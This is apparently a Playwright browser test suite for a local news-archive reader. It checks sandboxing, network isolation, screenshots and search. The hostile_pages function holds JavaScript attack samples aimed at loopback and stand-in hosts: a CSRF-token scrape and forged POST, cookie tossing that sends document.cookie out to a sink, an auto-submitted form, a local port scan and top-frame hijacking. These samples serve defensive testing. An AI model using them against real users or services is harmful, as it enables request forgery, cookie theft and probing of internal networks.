"""The reader in a real browser: Debian's chromium driven by Playwright (RELIABILITY C and E).

- search and read an article, change the text size, see what was removed and the original;
- screenshots of home, search and article pages, light and dark, saved to
  ``test-output/screenshots/`` and checked not blank (and dark really dark);
- 200 clean articles read one after another: every request the browser makes (frames
  included) goes to the reader, and a "rest of the web" sink on loopback sees nothing;
- five hostile archived pages replayed (in the frame and opened directly): nothing in the
  archive, the job list, the cookies or the top page changes, and nothing leaves the reader.
  The same pages opened unsandboxed from another local origin (the control) do run their
  scripts, which proves they are hostile and that the checks would notice.

The browser is Debian's ``/usr/bin/chromium`` (``.ci/run`` installs it); Playwright never
downloads one.
"""

from __future__ import annotations

import hashlib
import http.server
import re
import threading
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from click.testing import CliRunner
from origin import Origin, html_page

from archive.batch import run_batch
from archive.capture import Fetcher
from archive.cli import main
from archive.demo import Sample, demo_proxy, tiny_png
from archive.store import Archive
from archive.web import create_app
from archive.web.server import ServerThread

playwright_api = pytest.importorskip("playwright.sync_api")
Image = pytest.importorskip("PIL.Image")

CHROMIUM = "/usr/bin/chromium"
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
SHOTS = Path(__file__).resolve().parent.parent / "test-output" / "screenshots"
SITES = ("berita-satu.test", "kabar-dua.test", "warta-tiga.test", "harian-empat.test")


# -- the browser and the readers -----------------------------------------------------------------
@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Headless Debian chromium (never a downloaded browser)."""
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: install Debian's chromium (.ci/run does)")
    with playwright_api.sync_playwright() as pw:
        b = pw.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield b
        b.close()


def serve(root: Path) -> Iterator[SimpleNamespace]:
    """Open an archive and serve it on 127.0.0.1:0; yields (arc, app, url)."""
    arc = Archive(root)
    app = create_app(arc)
    with ServerThread(app) as server:
        yield SimpleNamespace(arc=arc, app=app, url=server.url, port=server.port)
    arc.close()


@pytest.fixture(scope="module")
def demo_reader(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SimpleNamespace]:
    """The shipped sample news pages, archived by ``cleaner demo``, served."""
    root = tmp_path_factory.mktemp("browser-demo") / "archive"
    result = CliRunner().invoke(main, ["demo", "--archive", str(root)])
    assert result.exit_code == 0, result.output
    yield from serve(root)


class Sink:
    """ "The rest of the web": a loopback HTTP server that records every request it gets.

    It also serves the hostile pages unsandboxed at ``/control/N`` (the control run).
    """

    def __init__(self) -> None:
        """Listen on 127.0.0.1:0."""
        sink = self
        self.hits: list[str] = []
        self.pages: dict[str, bytes] = {}

        class Handler(http.server.BaseHTTPRequestHandler):
            """Record, then answer: a control page, or an empty 200."""

            def log_message(self, *args: object) -> None:
                """Stay quiet."""

            def do_GET(self) -> None:
                """Record the request and answer it."""
                sink.hits.append(self.path)
                body = sink.pages.get(self.path, b"")
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        """Stop listening."""
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def sink() -> Iterator[Sink]:
    """A loopback sink standing for every other server."""
    s = Sink()
    yield s
    s.close()


def article_page(n: int, sink_url: str) -> str:
    """A news-like page with an image and the usual junk: ads, trackers, scripts, frames."""
    host = SITES[n % len(SITES)]
    words = " ".join(f"kata{(n * 7 + i) % 97}" for i in range(40))
    title = f"Berita nomor {n} tentang pembangunan kota"
    return f"""<!doctype html><html><head><meta charset="utf-8"><title>{title}</title>
<link rel="stylesheet" href="{sink_url}/style.css"><script src="{sink_url}/ads.js"></script>
<link rel="preload" href="{sink_url}/font.woff2"></head><body>
<header class="site-header"><nav><a href="/">Beranda</a> <a href="/news">Berita</a></nav></header>
<div class="ad-slot">Advertisement<img src="{sink_url}/banner.gif" width="728" height="90"></div>
<article><h1>{title}</h1>
<p class="byline">Oleh Penulis {n}</p>
<p>Pemerintah kota mengumumkan rencana pembangunan nomor {n} pada hari Senin. {words}.</p>
<figure><img src="http://{host}/img/{n}-foto.jpg" width="400" height="240" alt="Foto {n}">
<figcaption>Suasana proyek nomor {n}.</figcaption></figure>
<p>Warga menyambut rencana itu dengan harapan besar, kata seorang pejabat kepada wartawan.
Pekerjaan dimulai bulan depan dan ditargetkan selesai dalam dua tahun anggaran.</p>
<img src="{sink_url}/pixel.gif?id={n}" width="1" height="1">
<iframe src="{sink_url}/embed/{n}"></iframe>
<p style="background:url({sink_url}/bg.png)">Proyek ini juga mencakup taman, trotoar baru
dan jalur sepeda yang menghubungkan pusat kota dengan kawasan permukiman di pinggiran.</p>
<video src="{sink_url}/clip.mp4" poster="{sink_url}/poster.jpg"></video>
</article><footer class="site-footer">Hak cipta 2024</footer>
<script>fetch("{sink_url}/collect")</script></body></html>"""


@pytest.fixture(scope="module")
def reader_200(tmp_path_factory: pytest.TempPathFactory, sink: Sink) -> Iterator[SimpleNamespace]:
    """200 articles from four made-up sites, archived through the loopback sample proxy
    (real capture: WARC, cleaning, images fetched and inlined), then served."""
    base = tmp_path_factory.mktemp("browser-200")
    pages = []
    for n in range(200):
        path = base / "pages" / f"{n}.html"
        path.parent.mkdir(exist_ok=True)
        path.write_text(article_page(n, sink.url), encoding="utf-8")
        pages.append(Sample(f"http://{SITES[n % len(SITES)]}/read/{n}/berita-{n}", path))
    with demo_proxy(pages) as proxy, Archive(base / "archive") as arc:
        fetcher = Fetcher(delay=0.0, deadline=20.0, proxy=proxy, respect_robots=False)
        outcomes = run_batch(arc, fetcher, [p.url for p in pages], ("uji",), 4, refresh=False)
    assert [o.status for o in outcomes] == ["archived"] * 200, [
        o.reason for o in outcomes if o.status != "archived"
    ][:3]
    yield from serve(base / "archive")


def recorder(context: Any) -> list[tuple[str, str]]:
    """Record (method, URL) of every request the context makes, from any page or frame."""
    seen: list[tuple[str, str]] = []
    context.on("request", lambda req: seen.append((req.method, req.url)))
    return seen


def off_reader(seen: list[tuple[str, str]], reader_url: str) -> list[tuple[str, str]]:
    """The requests that went anywhere but the reader (data: URLs are not requests)."""
    return [
        (m, u) for m, u in seen if not (u.startswith(reader_url + "/") or u.startswith("data:"))
    ]


# -- search and read -----------------------------------------------------------------------------
def test_search_and_read_an_article(browser, demo_reader):
    """Search from the top bar, open the first hit, change the text size, see the removals
    and the original in its sandboxed frame; all without JavaScript, all from the reader."""
    context = browser.new_context(java_script_enabled=False)
    seen = recorder(context)
    page = context.new_page()
    page.goto(demo_reader.url + "/")
    page.fill(".bar-search input[name=q]", "korea utara")
    page.press(".bar-search input[name=q]", "Enter")
    page.wait_for_url("**/search?q=korea+utara")
    assert page.input_value(".search-form input[name=q]") == "korea utara"
    first = page.locator(".results li").first
    assert "Korea" in first.locator("mark").first.inner_text()
    first.locator("h2 a").click()
    page.wait_for_url(re.compile(r".*/article/\d+$"))
    assert "Korea Utara" in page.locator(".clean h1").inner_text()
    assert "Ada spekulasi" in page.locator(".clean").inner_text()
    assert "Advertisement" not in page.locator(".clean").inner_text()
    before = page.locator(".clean [data-cleaner-content] p").first.evaluate(
        "e => getComputedStyle(e).fontSize"
    )
    page.click("button.size-btn-xl")
    page.wait_for_load_state()
    assert page.locator("html").get_attribute("class") == "size-xl"
    after = page.locator(".clean [data-cleaner-content] p").first.evaluate(
        "e => getComputedStyle(e).fontSize"
    )
    assert float(after.rstrip("px")) > float(before.rstrip("px"))
    page.goto(page.url)  # the setting is remembered
    assert page.locator("html").get_attribute("class") == "size-xl"
    page.click("text=What was removed")
    assert page.locator(".removal").count() >= 3
    page.locator(".removal a", has_text="Show on the original").first.click()
    frame = page.frame_locator("iframe.original")
    assert "Korea" in frame.locator("body").inner_text()
    assert page.locator("iframe.original").get_attribute("sandbox") == ""
    assert off_reader(seen, demo_reader.url) == []
    context.close()


def test_add_a_page_with_the_form(browser, tmp_path):
    """The Add form in the browser: a private address is refused with a reason; with
    --allow-private the page is archived, the job page refreshes itself until done, and
    its link opens the clean copy. (Same-origin POSTs pass: Origin is "null" under
    no-referrer, Sec-Fetch-Site says same-origin.)"""
    with Origin() as origin:
        origin.add_page("/berita.html", html_page(7, images=1))
        origin.add_page("/img/7-0.png", tiny_png(), content_type="image/png")
        for allow in (False, True):
            arc = Archive(tmp_path / f"a{allow}")
            app = create_app(arc, allow_private=allow, fetcher_options={"delay": 0})
            with ServerThread(app) as server:
                context = browser.new_context(java_script_enabled=False)
                page = context.new_page()
                page.goto(server.url + "/add")
                page.fill("input[name=url]", origin.url("/berita.html"))
                page.fill("input[name=tags]", "uji")
                page.click("button[type=submit] >> text=Archive")
                if not allow:
                    assert "private or loopback address" in page.locator(".error").inner_text()
                    assert app.state.reader.jobs.jobs == {}
                else:
                    page.wait_for_url(re.compile(r".*/jobs/"))
                    page.locator("a.button").wait_for(timeout=20_000)
                    assert page.locator("h1").inner_text() == "Archived"
                    page.click("a.button")
                    assert "Judul 7" in page.locator(".clean").inner_text()
                    assert page.locator(".clean img").count() == 1
                    assert arc.index.count_articles() == 1
                context.close()
            app.state.reader.jobs.close()
            arc.close()


# -- screenshots ---------------------------------------------------------------------------------
def luminance_stats(png: bytes) -> tuple[float, float]:
    """(mean, standard deviation) of a screenshot's luminance, 0–255."""
    from PIL import ImageStat

    img = Image.open(BytesIO(png)).convert("L")
    stat = ImageStat.Stat(img)
    return stat.mean[0], stat.stddev[0]


def test_screenshots_light_and_dark_are_not_blank(browser, demo_reader):
    """Home, search and article pages in light and dark mode: saved, not blank, dark is dark."""
    SHOTS.mkdir(parents=True, exist_ok=True)
    korea = next(
        r for r in demo_reader.arc.index.list_articles(limit=50) if "Korea" in (r["title"] or "")
    )
    pages = {
        "home": "/",
        "search": "/search?q=jakarta",
        "article": f"/article/{korea['id']}",
    }
    means: dict[tuple[str, str], float] = {}
    for scheme in ("light", "dark"):
        context = browser.new_context(color_scheme=scheme, viewport={"width": 1100, "height": 900})
        seen = recorder(context)
        page = context.new_page()
        for name, path in pages.items():
            page.goto(demo_reader.url + path)
            png = page.screenshot(path=str(SHOTS / f"{name}-{scheme}.png"))
            mean, spread = luminance_stats(png)
            assert spread > 15, f"{name}-{scheme} looks blank (stddev {spread:.1f})"
            means[name, scheme] = mean
        assert off_reader(seen, demo_reader.url) == []
        context.close()
    for name in pages:
        assert means[name, "dark"] < 80 < 180 < means[name, "light"], (name, means)


# -- 200 clean articles: nothing but the reader --------------------------------------------------
def test_reading_200_clean_articles_requests_nothing_but_the_reader(browser, reader_200, sink):
    """Open 200 archived clean pages: every request (frames included) goes to the reader,
    each page shows its inlined image, and the loopback sink sees no connection."""
    rows = reader_200.arc.index.list_articles(limit=500)
    assert len(rows) == 200
    hits_before = len(sink.hits)
    context = browser.new_context()
    seen = recorder(context)
    page = context.new_page()
    images = 0
    for row in rows:
        page.goto(f"{reader_200.url}/article/{row['id']}")
        assert (
            f"Berita nomor {row['url'].split('/')[4]} "
            in page.locator(".clean h1").first.inner_text()
        )
        srcs = page.locator(".clean img").evaluate_all("els => els.map(e => e.src)")
        assert all(s.startswith("data:image/") for s in srcs)
        images += len(srcs)
    context.close()
    assert images >= 200
    assert off_reader(seen, reader_200.url) == []
    assert len(sink.hits) == hits_before
    pages = [u for m, u in seen if "/article/" in u]
    assert len(pages) == 200
    print(
        f"\n200 articles: {len(seen)} requests, all to the reader "
        f"({len(pages)} pages, {len(seen) - len(pages)} stylesheet), {images} images inline"
    )


# -- hostile archived pages ----------------------------------------------------------------------
def hostile_pages(reader: str, sink: str) -> dict[str, str]:
    """Five archived pages that try to act on the reader or the machine."""
    beacon = "navigator.sendBeacon(SINK + '/ran/{n}');"
    js = {
        "api": """
fetch(READER + '/add').then(r => r.text()).then(t => {
  const m = t.match(/name="csrf" value="(\\w+)"/);
  const body = 'csrf=' + (m ? m[1] : '') + '&url=http%3A%2F%2Fevil.test%2F&tags=pwned';
  return fetch(READER + '/add', {method: 'POST', body, credentials: 'include',
    headers: {'content-type': 'application/x-www-form-urlencoded'}});
}).then(r => fetch(SINK + '/api-status/' + r.status)).catch(e => fetch(SINK + '/api-error'));
fetch(READER + '/settings', {method: 'POST', mode: 'no-cors', credentials: 'include',
  headers: {'content-type': 'application/x-www-form-urlencoded'}, body: 'size=xl&next=/'});
navigator.sendBeacon(READER + '/add', 'url=http://evil.test/');""",
        "cookies": """
document.cookie = 'reader_size=xl; path=/';
document.cookie = 'session=tossed; path=/';
fetch(SINK + '/cookie/' + encodeURIComponent(document.cookie));""",
        "form": """
setTimeout(() => document.getElementById('f').submit(), 300);""",
        "scan": """
for (const p of [SINK_PORT, READER_PORT, 22, 80, 631, 5432, 6379, 8080]) {
  fetch('http://127.0.0.1:' + p + '/scan', {mode: 'no-cors'})
    .then(() => fetch(SINK + '/open/' + p)).catch(() => {});
}""",
        "navigate": """
try { window.open(SINK + '/popup'); } catch (e) {}
setTimeout(() => document.getElementById('a').click(), 200);
setTimeout(() => { top.location = SINK + '/nav'; }, 300);""",
    }
    extra = {
        "api": f'<img src="{reader}/add?url=http://evil.test/"><link rel="prefetch" '
        f'href="{reader}/settings">',
        "cookies": '<meta http-equiv="Set-Cookie" content="reader_size=xl; path=/">',
        "form": f'<form id="f" method="post" action="{reader}/add"><input name="url" '
        'value="http://evil.test/"><input name="tags" value="pwned">'
        '<input name="csrf" value="guess"></form>'
        "<input autofocus onfocus=\"document.getElementById('f').submit()\">",
        "scan": f'<img src="http://127.0.0.1:{sink.rsplit(":", 1)[1]}/scan-img">'
        f'<iframe src="{sink}/scan-frame"></iframe><link rel="stylesheet" href="{sink}/scan.css">'
        f'<object data="{sink}/scan-object"></object>',
        "navigate": f'<meta http-equiv="refresh" content="0;url={sink}/refresh">'
        f'<base target="_top"><a id="a" href="{sink}/click" target="_top">weiter</a>',
    }
    out = {}
    for n, (name, code) in enumerate(js.items(), 1):
        script = (
            f"const READER = '{reader}', SINK = '{sink}', READER_PORT = "
            f"{reader.rsplit(':', 1)[1]}, SINK_PORT = {sink.rsplit(':', 1)[1]};\n"
            + beacon.format(n=n)
            + code
        )
        out[name] = (
            f"<!doctype html><html><head><meta charset='utf-8'><title>Hostile {name}</title>"
            "</head><body>"
            f"<article><h1>Halaman berbahaya {name}</h1><p>Halaman ini mencoba menyerang "
            f"pembaca arsip dengan cara {name}. Isinya cukup panjang untuk dianggap sebagai "
            f"artikel oleh pembersih, dengan beberapa kalimat tambahan di sini.</p>{extra[name]}"
            f"<p>Paragraf kedua yang juga berisi teks biasa tentang berita hari ini.</p>"
            f"</article><script>{script}</script></body></html>"
        )
    return out


def snapshot(arc: Archive) -> tuple[Any, ...]:
    """Everything an attack could change in the archive: rows, tags and every file."""
    db = arc.index.db
    files = []
    for path in sorted(arc.root.rglob("*")):
        if path.is_file() and not path.name.startswith("index.sqlite3"):
            files.append(
                (str(path.relative_to(arc.root)), hashlib.sha1(path.read_bytes()).digest())
            )
    return (
        db.execute("SELECT count(*), max(id) FROM articles").fetchone()[:],
        db.execute("SELECT count(*), max(id) FROM records").fetchone()[:],
        tuple(db.execute("SELECT article_id, tag FROM tags ORDER BY 1, 2").fetchall()),
        tuple(db.execute("SELECT id, updated_at FROM articles ORDER BY id").fetchall()),
        tuple(files),
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, sink: Sink) -> Iterator[SimpleNamespace]:
    """A reader whose archive holds the five hostile pages (archived from a loopback origin
    whose responses also try Set-Cookie), addressed at this very reader and the sink."""
    root = tmp_path_factory.mktemp("browser-hostile") / "archive"
    for ns in serve(root):
        pages = hostile_pages(ns.url, sink.url)
        ids = {}
        with Origin() as origin:
            fetcher = Fetcher(delay=0.0, respect_robots=False)
            for name, body in pages.items():
                origin.add_page(
                    f"/{name}.html", body.encode(), [("Set-Cookie", "tossed=1; Path=/")]
                )
                outcome = ns.arc.archive_url(origin.url(f"/{name}.html"), fetcher)
                assert outcome.status == "archived", outcome.reason
                ids[name] = outcome.article_id
                sink.pages[f"/control/{name}"] = body.encode()
        ns.ids = ids
        yield ns


def test_hostile_pages_are_hostile_when_not_sandboxed(browser, hostile, sink):
    """Control: opened unsandboxed from another local origin, each page runs its script
    (the sink hears it); even then the reader refuses the cross-origin writes."""
    before = snapshot(hostile.arc)
    for n, name in enumerate(hostile.ids, 1):
        del sink.hits[:]
        context = browser.new_context()
        page = context.new_page()
        page.goto(f"{sink.url}/control/{name}")
        page.wait_for_timeout(1500)
        assert f"/ran/{n}" in sink.hits, (name, sink.hits)
        if name == "cookies":
            names = {c["name"] for c in context.cookies(hostile.url)}
            assert "reader_size" in names  # cookies ignore ports: tossing works across them
        if name == "scan":
            assert "/scan" in sink.hits
        if name == "navigate":
            assert "/nav" in sink.hits or "/click" in sink.hits or "/refresh" in sink.hits
        context.close()
    assert hostile.app.state.reader.jobs.jobs == {}
    assert snapshot(hostile.arc) == before


@pytest.mark.parametrize("how", ["framed", "direct"])
def test_hostile_archived_pages_change_nothing(browser, hostile, sink, how):
    """Replayed from the archive (in the reader's sandboxed frame, or its frame document
    opened directly), none of the five pages changes the archive, starts a job, sets a
    cookie for the reader, moves the top page or reaches anything but the reader."""
    before = snapshot(hostile.arc)
    del sink.hits[:]
    for name, aid in hostile.ids.items():
        context = browser.new_context()
        seen = recorder(context)
        page = context.new_page()
        record = hostile.arc.index.article(aid)["record"]
        url = (
            f"{hostile.url}/article/{aid}/original"
            if how == "framed"
            else f"{hostile.url}/replay/{record}"
        )
        page.goto(url)
        if how == "framed":
            text = page.frame_locator("iframe.original").locator("h1").inner_text()
        else:
            text = page.locator("h1").inner_text()
        assert f"Halaman berbahaya {name}" in text
        # The script is still in the replayed document: the sandbox is what stops it.
        replayed = next(f for f in page.frames if "/replay/" in f.url)
        assert "const READER" in replayed.content(), name
        page.wait_for_timeout(1200)
        assert page.url == url, name
        assert len(context.pages) == 1, name
        assert context.cookies() == [], name
        assert off_reader(seen, hostile.url) == [], name
        assert not [u for m, u in seen if m != "GET"], name
        context.close()
    assert sink.hits == []
    assert hostile.app.state.reader.jobs.jobs == {}
    assert snapshot(hostile.arc) == before
